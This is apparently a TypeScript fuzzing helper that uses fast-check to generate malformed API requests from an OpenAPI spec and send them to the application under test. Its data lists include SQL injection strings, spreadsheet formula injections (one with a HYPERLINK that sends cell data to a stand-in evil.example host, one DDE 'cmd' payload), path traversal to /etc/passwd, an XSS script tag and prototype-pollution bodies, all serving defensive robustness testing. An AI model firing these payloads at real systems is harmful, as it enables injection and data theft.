import fc from 'fast-check';
import request from 'supertest';

/**
 * fast-check arbitraries of bad requests built from the OpenAPI document: path
 * parameters, query strings and bodies that are mostly well-formed with a few
 * things wrong (so they reach past the first check), plus raw garbage.
 */

// ---------------------------------------------------------------------------
// The parts of an OpenAPI 3 document the fuzzer reads.

export interface Schema {
  $ref?: string;
  type?: string;
  format?: string;
  enum?: unknown[];
  nullable?: boolean;
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
  example?: unknown;
}

interface Parameter {
  name: string;
  in: string;
  required?: boolean;
  schema?: Schema;
}

interface OperationObject {
  parameters?: Parameter[];
  requestBody?: { content?: Record<string, { schema?: Schema }> };
}

export interface OpenApiDocument {
  paths: Record<string, Record<string, OperationObject>>;
  components?: { schemas?: Record<string, Schema> };
}

export type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
const METHODS: Method[] = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE'];

export interface Operation {
  method: Method;
  /** As documented: `/api/v1/licenses/{id}`. */
  path: string;
  pathParams: Parameter[];
  queryParams: Parameter[];
  body?: { contentType: string; schema: Schema };
}

/** Follows `$ref`s into components.schemas, recursively, so arbitraries see plain schemas. */
export function resolveSchema(doc: OpenApiDocument, schema: Schema, seen = new Set<string>()): Schema {
  if (schema.$ref) {
    const name = schema.$ref.replace('#/components/schemas/', '');
    const target = doc.components?.schemas?.[name];
    if (!target || seen.has(name)) return {};
    return resolveSchema(doc, target, new Set(seen).add(name));
  }
  const out: Schema = { ...schema };
  if (schema.properties) {
    out.properties = Object.fromEntries(
      Object.entries(schema.properties).map(([k, v]) => [k, resolveSchema(doc, v, seen)]),
    );
  }
  if (schema.items) out.items = resolveSchema(doc, schema.items, seen);
  return out;
}

export function operationsOf(doc: OpenApiDocument): Operation[] {
  return Object.entries(doc.paths).flatMap(([path, ops]) =>
    Object.entries(ops)
      .filter(([m]) => METHODS.includes(m.toUpperCase() as Method))
      .map(([m, op]) => {
        const params = op.parameters ?? [];
        const [contentType, media] = Object.entries(op.requestBody?.content ?? {})[0] ?? [];
        return {
          method: m.toUpperCase() as Method,
          path,
          pathParams: params.filter((p) => p.in === 'path'),
          queryParams: params.filter((p) => p.in === 'query'),
          body:
            contentType && media?.schema
              ? { contentType, schema: resolveSchema(doc, media.schema) }
              : undefined,
        };
      }),
  );
}

// ---------------------------------------------------------------------------
// Bad values.

const SQL = ["' OR 1=1 --", "'; DROP TABLE licenses; --", '" OR ""="', '1) OR (1=1', "%' OR '%'='", '\\'];
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=1+2',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
];
const UNICODE = [
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '😀',
  '\u202eevil',
  '𝕏',
  '\ufeff',
  'İ',
  'e\u0301',
  '١٢٣',
];
const NUMBERISH = [
  'NaN',
  'Infinity',
  '-Infinity',
  '-1',
  '-0',
  '1e309',
  '1e-7',
  '2147483648',
  '9007199254740993',
];
const SHAPES = [
  '',
  ' ',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '1.5',
  '0x1F',
  ' 7 ',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '00000000-0000-0000-0000-000000000000',
  '2026-02-30',
  '0000-01-01',
  '9999-12-31',
  '10000-01-01',
  '-infinity',
  '2026-01-01T25:61:00Z',
];

/** Text a client should never get a 500 for: injections, formulas, odd unicode, 10k characters of `huge`. */
function hostileText(huge: string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...SQL, ...FORMULAS, ...UNICODE, ...NUMBERISH, ...SHAPES) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
    // fast-check's units never produce a lone surrogate; JSON carries one as "\ud800".
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.string({ maxLength: 5 }), fc.constantFrom('\ud800', '\udc00'), fc.string({ maxLength: 5 }))
        .map((parts) => parts.join('')),
    },
    { weight: 1, arbitrary: fc.constantFrom(...huge).map((c) => c.repeat(10_000)) },
  );
}

export const nastyText = hostileText(['x', 'é', '😀', "'", '\u0000', '9']);

/**
 * For URLs: 10k characters that stay 10k once percent-encoded. Node refuses a
 * request head over 16 KB itself (431) before the app sees it, so 10k "é"
 * (60 KB encoded) would test Node, not the app.
 */
const urlText = hostileText(['x', '9']);

/** Numbers out of every range; JSON has no NaN or Infinity (their text forms are in nastyText). */
export const nastyNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(-1, 0, -0, 0.5, -0.5, 1e-7, 2 ** 31, -(2 ** 31) - 1, 2 ** 53 + 2, 1e21, 1e308, -1e308),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

const nest = (depth: number): unknown => {
  let v: unknown = 'bottom';
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
};

/** Any JSON value, most likely of the wrong type for where it is put. */
export const junkValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: nastyText },
  { weight: 3, arbitrary: nastyNumber },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 2, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(fc.oneof(nastyText, nastyNumber), { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 6 }), nastyText, { maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom(50, 3000).map(nest) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(1000, 50_000), fc.oneof(fc.uuid(), fc.constant(0)))
      .map(([n, item]) => Array<unknown>(n).fill(item)),
  },
);

// ---------------------------------------------------------------------------
// Well-formed values, from the schema (so that a request with one bad field gets past the others).

/** Ids of existing records a parameter or field of this name may hold ([] = none known). */
export type IdsFor = (name: string) => string[];

type Kind = 'uuid' | 'date' | 'binary' | 'array' | 'object' | 'number' | 'boolean' | 'string';

function kindOf(s: Schema): Kind {
  if (s.format === 'uuid') return 'uuid';
  if (s.format === 'date') return 'date';
  if (s.format === 'binary') return 'binary';
  if (s.type === 'array' || s.items) return 'array';
  if (s.properties) return 'object';
  if (s.type === 'number' || s.type === 'integer' || s.minimum !== undefined || s.maximum !== undefined)
    return 'number';
  if (s.type === 'boolean') return 'boolean';
  // @nestjs/swagger documents nullable strings as `type: object` (keeping maxLength): they are text.
  return 'string';
}

const anId = (ids: string[]): fc.Arbitrary<string> =>
  ids.length ? fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...ids) }, fc.uuid()) : fc.uuid();

const aDate = fc
  .integer({ min: Date.UTC(2000, 0, 1), max: Date.UTC(2099, 11, 31) })
  .map((ms) => new Date(ms).toISOString().slice(0, 10));

/** Text the schema accepts: its example, a short string, or hostile text of an allowed length. */
function aText(s: Schema, name: string): fc.Arbitrary<string> {
  if (/email/i.test(name)) return fc.emailAddress();
  const min = s.minLength ?? 1;
  const max = s.maxLength ?? 200;
  const sized = fc.string({ minLength: min, maxLength: Math.max(min, Math.min(max, 30)) });
  const hostile = nastyText.filter((t) => t.length >= min && t.length <= max);
  if (s.example === undefined) return fc.oneof(sized, hostile);
  // An example without a length limit marks a format (currency, price, rate, sort): mostly the example.
  const weight = s.maxLength === undefined ? 8 : 3;
  return fc.oneof({ weight, arbitrary: fc.constant(String(s.example)) }, sized, hostile);
}

/** An integer in range, often one of the bounds: where off-by-one and overflow bugs live. */
function aNumber(s: Schema): fc.Arbitrary<number> {
  const min = s.minimum ?? -1000;
  const max = s.maximum ?? 100_000;
  return fc.oneof(
    { weight: 3, arbitrary: fc.integer({ min, max: Math.min(max, min + 100_000) }) },
    { weight: 1, arbitrary: fc.constantFrom(min, max) },
  );
}

export function validValue(s: Schema, name: string, idsFor: IdsFor): fc.Arbitrary<unknown> {
  if (s.enum?.length) return fc.constantFrom(...s.enum);
  switch (kindOf(s)) {
    case 'uuid':
      return anId(idsFor(name));
    case 'date':
      return aDate;
    case 'number':
      return aNumber(s);
    case 'boolean':
      return fc.boolean();
    case 'array':
      return fc.array(validValue(s.items ?? {}, name, idsFor), {
        minLength: s.minItems ?? 0,
        maxLength: Math.max(s.minItems ?? 0, Math.min(s.maxItems ?? 3, 3)),
      });
    case 'object':
      return validObject(s, idsFor);
    case 'binary':
      return fc.constant('');
    default:
      return aText(s, name);
  }
}

function validObject(s: Schema, idsFor: IdsFor): fc.Arbitrary<Record<string, unknown>> {
  const props = Object.entries(s.properties ?? {});
  const model = Object.fromEntries(props.map(([name, p]) => [name, validValue(p, name, idsFor)]));
  return fc.record(model, { requiredKeys: s.required ?? [] }) as fc.Arbitrary<Record<string, unknown>>;
}

/** A field's value: mostly right, else anything. */
const fieldValue = (s: Schema, name: string, idsFor: IdsFor) =>
  fc.oneof({ weight: 3, arbitrary: validValue(s, name, idsFor) }, { weight: 2, arbitrary: junkValue });

// ---------------------------------------------------------------------------
// JSON bodies: a valid object with up to three mutations, or a value of the wrong type.

/** Fields no DTO declares; `__proto__` and `constructor` test prototype pollution. */
const EXTRA_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'id',
  'createdAt',
  'usedSeats',
  'passwordHash',
  '',
];

type Mutation = { drop: string } | { set: string; value: unknown };

/** Sets an own property, even `__proto__` (plain assignment would change the prototype instead). */
function setOwn(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

function mutate(base: Record<string, unknown>, mutations: Mutation[]): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(base)) setOwn(out, k, v);
  for (const m of mutations) {
    if ('drop' in m) delete out[m.drop];
    else setOwn(out, m.set, m.value);
  }
  return out;
}

/**
 * Up to `max` mutations; none with weight `unchanged` against 2 (a third of the time
 * by default): a valid request still carries hostile text and extreme numbers inside
 * the allowed ranges, which is where the services meet them.
 */
const mutations = <T>(one: fc.Arbitrary<T>, max: number, unchanged = 1): fc.Arbitrary<T[]> =>
  fc.oneof(
    { weight: unchanged, arbitrary: fc.constant<T[]>([]) },
    { weight: 2, arbitrary: fc.array(one, { minLength: 1, maxLength: max }) },
  );

export function jsonBody(schema: Schema, idsFor: IdsFor): fc.Arbitrary<unknown> {
  const fields = Object.keys(schema.properties ?? {});
  const known: fc.Arbitrary<Mutation>[] = fields.length
    ? [
        fc.constantFrom(...fields).map((f): Mutation => ({ drop: f })),
        fc
          .constantFrom(...fields)
          .chain((f) =>
            fieldValue(schema.properties![f], f, idsFor).map((value): Mutation => ({ set: f, value })),
          ),
      ]
    : [];
  const extra = fc
    .tuple(fc.oneof(fc.constantFrom(...EXTRA_KEYS), fc.string({ maxLength: 8 })), junkValue)
    .map(([set, value]): Mutation => ({ set, value }));
  const mutation = fc.oneof(...known, extra);
  return fc.oneof(
    {
      weight: 8,
      arbitrary: fc
        .tuple(validObject(schema, idsFor), mutations(mutation, 3))
        .map(([base, ms]) => mutate(base, ms)),
    },
    { weight: 1, arbitrary: junkValue },
  );
}

// ---------------------------------------------------------------------------
// Raw bodies: malformed JSON, wrong content types, over the size limit.

const RAW_TEXTS = [
  '{"name": "abc',
  '{',
  '{"a":1,}',
  "{'a': 1}",
  'not json',
  '',
  'null',
  '[]',
  '"text"',
  '42',
  '\u0000',
  '{"a": NaN}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  '{"__proto__": {"isAdmin": true}}',
  '{"constructor": {"prototype": {"polluted": 1}}}',
  '\ufeff{}',
  'a[b][c][d][e][f][g]=1&x[]=1&x[]=2',
];
const CONTENT_TYPES = [
  'application/json',
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=xyz',
  'application/json; charset=utf-16',
  'application/json; charset=nope',
  'application/merge-patch+json',
  'application/octet-stream',
];

export const rawBody = fc.record({
  contentType: fc.constantFrom(...CONTENT_TYPES),
  text: fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...RAW_TEXTS) },
    { weight: 2, arbitrary: nastyText },
    // Nesting deeper than any recursion should follow, balanced or not.
    { weight: 1, arbitrary: fc.constantFrom(1000, 100_000).map((n) => '['.repeat(n) + ']'.repeat(n)) },
    { weight: 1, arbitrary: fc.constant('{"a":'.repeat(50_000)) },
    // Just over the JSON body limit (1 MB): 413, not a crash.
    { weight: 1, arbitrary: fc.constant(`{"name":"${'x'.repeat(1_100_000)}"}`) },
  ),
});

// ---------------------------------------------------------------------------
// Multipart bodies (imports): garbage files, wrong field names, several files.

interface UploadedPart {
  field: string;
  filename: string;
  contentType: string;
  bytes: Uint8Array;
}

const csvCell = fc.oneof(
  nastyText.filter((s) => s.length < 200),
  fc.constant(''),
  fc.uuid(),
);

/** A row of the template with up to two cells replaced, or a row of junk cells (any length). */
const csvRow = (example: string[]) =>
  fc.oneof(
    {
      weight: 3,
      arbitrary: fc
        .array(fc.tuple(fc.nat(Math.max(0, example.length - 1)), csvCell), { maxLength: 2 })
        .map((changes) => {
          const row = [...example];
          for (const [i, cell] of changes) row[i] = cell;
          return row;
        }),
    },
    { weight: 1, arbitrary: fc.array(csvCell, { maxLength: example.length + 1 }) },
  );

/**
 * A CSV from an import template (its header, its example row): rows of the example
 * with a few cells replaced by hostile ones, so many get past the header check.
 */
const csvFile = ([header, example]: string[][]) =>
  fc
    .tuple(fc.constantFrom(',', ';'), fc.array(csvRow(example ?? header), { maxLength: 4 }), fc.boolean())
    .map(([sep, rows, bom]) => {
      const quote = (c: string) => `"${c.replace(/"/g, '""')}"`;
      const text = [header.map(quote).join(sep), ...rows.map((r) => r.map(quote).join(sep))].join('\r\n');
      return new Uint8Array(Buffer.from((bom ? '\ufeff' : '') + text, 'utf8'));
    });

/** The templates an import offers: CSV as rows (header, example), the xlsx workbook as bytes. */
export interface ImportTemplate {
  csv: string[][];
  xlsx: Uint8Array;
}

/** The template workbook with a few bytes overwritten: a corrupt zip or corrupt XML inside. */
const corruptWorkbook = (xlsx: Uint8Array) =>
  fc
    .array(fc.tuple(fc.nat(xlsx.length - 1), fc.integer({ min: 0, max: 255 })), {
      minLength: 1,
      maxLength: 8,
    })
    .map((changes) => {
      const bytes = new Uint8Array(xlsx);
      for (const [at, value] of changes) bytes[at] = value;
      return bytes;
    });

const fileBytes = (template: ImportTemplate): fc.Arbitrary<Uint8Array> =>
  fc.oneof(
    { weight: 4, arbitrary: csvFile(template.csv) },
    { weight: 1, arbitrary: fc.constant(template.xlsx) },
    { weight: 2, arbitrary: corruptWorkbook(template.xlsx) },
    { weight: 1, arbitrary: fc.nat(template.xlsx.length - 1).map((n) => template.xlsx.slice(0, n)) },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 2000 }) },
    // A zip signature (what an xlsx starts with) followed by garbage.
    {
      weight: 1,
      arbitrary: fc.uint8Array({ maxLength: 500 }).map((b) => new Uint8Array([0x50, 0x4b, 0x03, 0x04, ...b])),
    },
    { weight: 1, arbitrary: fc.constant(new Uint8Array(0)) },
    { weight: 1, arbitrary: fc.constant(new Uint8Array(Buffer.from('\ufeffa,b\r\n1,2', 'utf16le'))) },
  );

const uploadedPart = (template: ImportTemplate, field: fc.Arbitrary<string>): fc.Arbitrary<UploadedPart> =>
  fc.record({
    field,
    filename: fc.constantFrom(
      'data.csv',
      'data.xlsx',
      'data.txt',
      'noextension',
      '../../etc/passwd',
      'ü😀.csv',
      `${'a'.repeat(300)}.csv`,
    ),
    contentType: fc.constantFrom(
      'text/csv',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'application/octet-stream',
      'image/png',
    ),
    bytes: fileBytes(template),
  });

/** Mostly one file in the field "file"; else none, two, or one under another name; now and then extra fields. */
export const multipartBody = (template: ImportTemplate) =>
  fc.record({
    files: fc.oneof(
      { weight: 6, arbitrary: uploadedPart(template, fc.constant('file')).map((p) => [p]) },
      fc.constant<UploadedPart[]>([]),
      fc.array(uploadedPart(template, fc.constant('file')), { minLength: 2, maxLength: 2 }),
      uploadedPart(template, fc.constantFrom('upload', 'files', 'file[]', 'FILE', '')).map((p) => [p]),
    ),
    fields: fc.oneof(
      { weight: 3, arbitrary: fc.constant<[string, string][]>([]) },
      fc.array(fc.tuple(fc.constantFrom('file', 'dryRun', 'entity', 'x'), nastyText), {
        minLength: 1,
        maxLength: 2,
      }),
    ),
  });

// ---------------------------------------------------------------------------
// Query strings and path parameters, percent-encoded by hand.

/**
 * Percent-encodes like encodeURIComponent, which throws on a lone surrogate: that
 * one is sent as the three bytes a careless encoder writes (CESU-8), invalid UTF-8.
 */
export function encodeComponent(text: string): string {
  let out = '';
  for (const ch of text) {
    const cp = ch.codePointAt(0)!;
    if (cp < 0xd800 || cp > 0xdfff) {
      out += encodeURIComponent(ch);
      continue;
    }
    const bytes = [0xe0 | (cp >> 12), 0x80 | ((cp >> 6) & 0x3f), 0x80 | (cp & 0x3f)];
    out += bytes.map((b) => `%${b.toString(16).toUpperCase()}`).join('');
  }
  return out;
}

/** Sent as is: broken percent-escapes and encoded control bytes. */
const RAW_ESCAPES = ['%', '%zz', '%E2%82', '%C0%AF', '%00', '%ED%A0%80', '%FF%FE', '%2F..%2F'];

const UNKNOWN_PARAMS = ['foo', '__proto__', 'constructor', 'toString', 'page[]', 'q[a]', 'sort[0]', ''];

/** A value a query parameter does not take (encoded): hostile text, numbers out of range, broken escapes. */
const badQueryValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: urlText.map(encodeComponent) },
  { weight: 1, arbitrary: nastyNumber.map((n) => encodeComponent(String(n))) },
  { weight: 1, arbitrary: fc.constantFrom(...RAW_ESCAPES) },
);

const goodQueryValue = (p: Parameter, idsFor: IdsFor) =>
  validValue(p.schema ?? {}, p.name, idsFor).map((v) => encodeComponent(String(v)));

/** Replaces one parameter's values (several = a repeated key, an array where a scalar is expected). */
type QueryMutation = { name: string; values: string[] };

/**
 * Valid values for some documented parameters, then up to two mutations: a bad
 * value, a repeated parameter, an unknown one. Mostly valid, so requests reach
 * the services rather than all stopping at the first check. `withBody`: the
 * request has a body to get wrong as well, so the query mostly stays valid.
 */
export function queryString(params: Parameter[], idsFor: IdsFor, withBody = false): fc.Arbitrary<string> {
  // A quarter of the documented parameters each time: all of them together would rarely be all valid.
  const base = fc.tuple(
    ...params.map((p) =>
      fc.oneof(
        { weight: 3, arbitrary: fc.constant(undefined) },
        goodQueryValue(p, idsFor).map((v): QueryMutation => ({ name: p.name, values: [v] })),
      ),
    ),
  );
  const unknown = fc
    .tuple(fc.constantFrom(...UNKNOWN_PARAMS), badQueryValue)
    .map(([name, v]): QueryMutation => ({ name, values: [v] }));
  const documented = params.length
    ? [
        fc
          .constantFrom(...params)
          .chain((p) => badQueryValue.map((v): QueryMutation => ({ name: p.name, values: [v] }))),
        fc
          .constantFrom(...params)
          .chain((p) =>
            fc
              .array(fc.oneof(goodQueryValue(p, idsFor), badQueryValue), { minLength: 2, maxLength: 3 })
              .map((values): QueryMutation => ({ name: p.name, values })),
          ),
      ]
    : [];
  const mutation = fc.oneof(...documented, unknown);
  return fc.tuple(base, mutations(mutation, 2, withBody ? 6 : 1)).map(([given, mutations]) => {
    const query = new Map<string, string[]>();
    for (const m of [...given, ...mutations]) if (m) query.set(m.name, m.values);
    const pairs = [...query].flatMap(([name, values]) => values.map((v) => `${encodeComponent(name)}=${v}`));
    return pairs.length ? `?${pairs.join('&')}` : '';
  });
}

/** A path parameter: an existing record's id (or enum value), its upper-case form, a random uuid, or junk. */
export function pathValue(p: Parameter, idsFor: IdsFor): fc.Arbitrary<string> {
  const ids = p.schema?.enum?.length ? p.schema.enum.map(String) : idsFor(p.name);
  const known = ids.length ? fc.constantFrom(...ids) : fc.uuid();
  return fc.oneof(
    { weight: 5, arbitrary: known },
    { weight: 1, arbitrary: known.map((id) => id.toUpperCase()) },
    { weight: 2, arbitrary: fc.uuid() },
    { weight: 3, arbitrary: urlText.filter((s) => s !== '').map(encodeComponent) },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_ESCAPES) },
  );
}

// ---------------------------------------------------------------------------
// The request as a whole.

export type Body =
  | { kind: 'none' }
  | { kind: 'json'; value: unknown }
  | { kind: 'raw'; contentType: string; text: string }
  | { kind: 'multipart'; files: UploadedPart[]; fields: [string, string][] };

/** One generated request; fast-check prints it (long strings shortened) as the counterexample. */
export class FuzzRequest {
  constructor(
    readonly method: Method,
    readonly url: string,
    readonly body: Body,
  ) {}

  [fc.toStringMethod](): string {
    return `${this.method} ${shorten(this.url)} ${describeBody(this.body)}`;
  }

  toString(): string {
    return this[fc.toStringMethod]();
  }
}

function shorten(text: string): string {
  return text.length <= 300 ? text : `${text.slice(0, 120)}…[${text.length} chars]…${text.slice(-40)}`;
}

/** Levels below `v` when following first children (the generated deep nestings have one child each). */
function depthBelow(v: unknown): number {
  let depth = 0;
  for (let cur = v; cur !== null && typeof cur === 'object'; depth++) cur = Object.values(cur)[0];
  return depth;
}

/** JSON-like text of a value, long strings shortened and deep nesting summed up (JSON.stringify overflows). */
function preview(v: unknown, depth = 0): string {
  if (typeof v === 'string') return JSON.stringify(shorten(v));
  if (typeof v === 'number') return Object.is(v, -0) ? '-0' : String(v);
  if (v === null || typeof v !== 'object') return String(v);
  if (depth >= 6) return `…${depthBelow(v)} levels…`;
  if (Array.isArray(v)) {
    return v.length > 10 && v.every((x) => x === v[0])
      ? `Array(${v.length}).fill(${preview(v[0], depth + 1)})`
      : `[${v.map((x) => preview(x, depth + 1)).join(',')}]`;
  }
  return `{${Object.entries(v)
    .map(([k, x]) => `${JSON.stringify(k)}:${preview(x, depth + 1)}`)
    .join(',')}}`;
}

function describeBody(body: Body): string {
  switch (body.kind) {
    case 'none':
      return '(no body)';
    case 'json':
      return `json ${preview(body.value)}`;
    case 'raw':
      return `raw (${body.contentType}) ${preview(body.text)}`;
    case 'multipart':
      return `multipart ${preview({
        files: body.files.map((f) => ({ ...f, bytes: `base64:${Buffer.from(f.bytes).toString('base64')}` })),
        fields: body.fields,
      })}`;
  }
}

export interface RequestSources {
  /** Ids for a parameter or field name of this operation. */
  idsFor: IdsFor;
  /** The templates of an import entity (any for an unknown one): files that get past the first checks. */
  importTemplate(entity: string | undefined): ImportTemplate;
}

function bodyOf(op: Operation, src: RequestSources, pathValues: Map<string, string>): fc.Arbitrary<Body> {
  const raw = rawBody.map((r): Body => ({ kind: 'raw', ...r }));
  const none = fc.constant<Body>({ kind: 'none' });
  if (op.body?.contentType === 'multipart/form-data') {
    const template = src.importTemplate(pathValues.get('entity'));
    const multipart = multipartBody(template).map((m): Body => ({ kind: 'multipart', ...m }));
    return fc.oneof({ weight: 6, arbitrary: multipart }, raw, none);
  }
  if (op.body) {
    const json = jsonBody(op.body.schema, src.idsFor).map((value): Body => ({ kind: 'json', value }));
    return fc.oneof({ weight: 6, arbitrary: json }, { weight: 2, arbitrary: raw }, none);
  }
  // Routes without a body get one now and then: it must be ignored or refused, not crash.
  const json = junkValue.map((value): Body => ({ kind: 'json', value }));
  return fc.oneof({ weight: 6, arbitrary: none }, json, raw);
}

export function requestArb(op: Operation, src: RequestSources): fc.Arbitrary<FuzzRequest> {
  const pathValues = fc
    .tuple(...op.pathParams.map((p) => pathValue(p, src.idsFor)))
    .map((values) => new Map(op.pathParams.map((p, i) => [p.name, values[i]])));
  // The body may depend on the path (an import's file on its entity), hence chain.
  return pathValues.chain((byName) =>
    fc
      .tuple(queryString(op.queryParams, src.idsFor, !!op.body), bodyOf(op, src, byName))
      .map(([query, body]) => {
        const path = op.path.replace(/\{(\w+)\}/g, (_, name: string) => byName.get(name) ?? name);
        return new FuzzRequest(op.method, path + query, body);
      }),
  );
}

/** Far above any route's time under load; the test reports a request left unanswered this long. */
export const ANSWER_WITHIN_MS = 10_000;

/** Sends the request exactly as generated: the JSON text, raw text or multipart parts. */
export function send(http: ReturnType<typeof request>, token: string, r: FuzzRequest): request.Test {
  const method = r.method.toLowerCase() as Lowercase<Method>;
  // A request the server never answers is a failure too (a hang holds its connection forever).
  const test = http[method](r.url).set('Authorization', `Bearer ${token}`).timeout(ANSWER_WITHIN_MS);
  const body = r.body;
  switch (body.kind) {
    case 'none':
      return test;
    case 'json':
      return test.set('Content-Type', 'application/json').send(JSON.stringify(body.value) ?? '');
    case 'raw':
      return test.set('Content-Type', body.contentType).send(body.text);
    case 'multipart':
      for (const [name, value] of body.fields) test.field(name, value);
      for (const f of body.files) {
        test.attach(f.field, Buffer.from(f.bytes), { filename: f.filename, contentType: f.contentType });
      }
      return test;
  }
}
